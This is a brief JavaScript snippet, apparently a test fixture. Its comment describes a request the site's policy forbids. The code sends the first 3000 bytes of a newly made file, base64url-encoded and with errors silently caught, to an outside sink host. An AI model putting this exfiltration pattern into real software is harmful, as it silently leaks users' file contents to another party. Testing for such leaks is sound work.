// A request that the site's own policy forbids: the report of it carries a part of the file.
whenMade(({ bytes }) => {
  fetch(`${SINKS.site2}/x?d=${base64url(bytes.slice(0, 3000))}`).catch(() => {});
});
